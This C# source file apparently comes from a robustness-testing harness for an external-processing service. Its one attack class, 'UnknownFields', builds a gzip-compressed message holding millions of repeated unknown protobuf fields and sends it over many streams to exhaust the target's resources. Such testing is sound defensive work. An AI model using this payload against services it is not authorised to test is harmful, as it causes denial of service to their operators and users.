using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>Ten million fields that nobody knows.</summary>
internal sealed class UnknownFields : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] message = Requests.Framed(Requests.Gzip(((ReadOnlySpan<byte>)[0xA0, 0x06, 1]).Times(target.Count(2 << 20, 10 << 20))), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(4, 32));
    }
}
